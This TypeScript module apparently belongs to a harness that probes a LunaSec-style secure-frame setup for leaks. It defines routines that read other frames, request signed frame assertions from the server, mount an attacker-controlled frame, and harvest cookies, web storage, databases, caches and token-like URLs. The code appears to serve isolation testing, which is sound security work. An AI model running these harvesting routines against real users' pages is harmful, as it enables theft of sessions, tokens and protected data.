import { count, nameOf, short } from './types.js';
import type { Attack, Target } from './types.js';

/** Reads what a browser lets scripts of this page read. */
export const looting = ({ applicationId, tokenizerURL }: Target): Attack[] => [
  {
    id: 'frames',
    title: 'Reach into the frames',
    how: 'Reads the document, the address and the variables of every frame of this page.',
    async run() {
      const loot: string[] = [];
      const errors = new Set<string>();
      const frames = [...document.querySelectorAll('iframe')];
      const ways: ((frame: HTMLIFrameElement) => unknown)[] = [
        (frame) => frame.contentDocument?.documentElement.textContent,
        (frame) => frame.contentWindow?.document.documentElement.textContent,
        (frame) => frame.contentWindow?.location.href,
        (frame) => (frame.contentWindow as unknown as Record<string, unknown> | null)?.value,
      ];
      for (const frame of frames)
        for (const way of ways)
          try {
            const got = way(frame);
            if (typeof got === 'string' && got.trim() !== '') loot.push(short(got.trim()));
          } catch (error) {
            errors.add(nameOf(error));
          }
      return {
        loot,
        note: `${count(frames.length * ways.length, 'try', 'tries')} at ${count(frames.length, 'frame')}: ${[...errors].join(', ') || 'nothing there'}.`,
      };
    },
  },
  {
    id: 'handshake',
    title: 'Steal the login of the frames',
    how: 'Asks this app’s server for the signed assertion that a frame gets, in every way that fetch knows.',
    async run() {
      const loot: string[] = [];
      const ends: string[] = [];
      const modes: RequestInit[] = [
        {},
        { redirect: 'manual' },
        { redirect: 'error' },
        { mode: 'no-cors' },
        { mode: 'same-origin', credentials: 'include' },
      ];
      for (const init of modes)
        try {
          const response = await fetch('/.lunasec/secure-frame', { credentials: 'include', ...init });
          const text = await response.text();
          const hint = [response.url.split('#')[1], response.headers.get('location'), text].find(
            (each) => each && /eyJ[\w-]+\./.test(each),
          );
          if (hint) loot.push(short(hint));
          ends.push(String(response.status || response.type));
        } catch (error) {
          ends.push(nameOf(error));
        }
      return { loot, note: `${count(modes.length, 'request')}: ${ends.join(', ')}.` };
    },
  },
  {
    id: 'own-frame',
    title: 'Mount a frame of its own',
    how: 'Takes a token from this page, opens it in a frame that it made itself, and reads that frame.',
    async run() {
      const frame = Object.assign(document.createElement('iframe'), {
        src: `${tokenizerURL}/frame/element?application=${encodeURIComponent(applicationId)}`,
        title: 'Frame of an attacker',
        hidden: true,
      });
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.onload = resolve;
        setTimeout(resolve, 2000);
      });
      const loot: string[] = [];
      let end = 'the browser gave null for its document';
      try {
        const text = frame.contentDocument?.documentElement.textContent;
        if (text) loot.push(short(text));
      } catch (error) {
        end = nameOf(error);
      }
      frame.remove();
      return { loot, note: `It loads, and ${end}: only the person in front of the screen sees into it.` };
    },
  },
  {
    id: 'storage',
    title: 'Search what is left behind',
    how: 'Reads cookies, storage, databases, caches, history and the addresses of everything that was loaded.',
    async run() {
      const entries = (storage: Storage) =>
        Object.entries(storage).map(([key, value]) => `${key}=${String(value)}`);
      const places: Record<string, string[]> = {
        cookies: document.cookie.split('; ').filter(Boolean),
        storage: [...entries(localStorage), ...entries(sessionStorage)],
        databases: (await indexedDB.databases?.())?.map(({ name }) => String(name)) ?? [],
        caches: await caches.keys(),
        history: history.state ? [JSON.stringify(history.state)] : [],
        addresses: performance
          .getEntries()
          .map(({ name }) => name)
          .filter((name) => /eyJ[\w-]{10,}\./.test(name) || /assertion|signature/i.test(name)),
      };
      return {
        loot: Object.entries(places).flatMap(([place, found]) =>
          found.map((each) => short(`${place}: ${each}`)),
        ),
        note: Object.entries(places)
          .map(([place, found]) => `${place} ${found.length}`)
          .join(', '),
      };
    },
  },
];
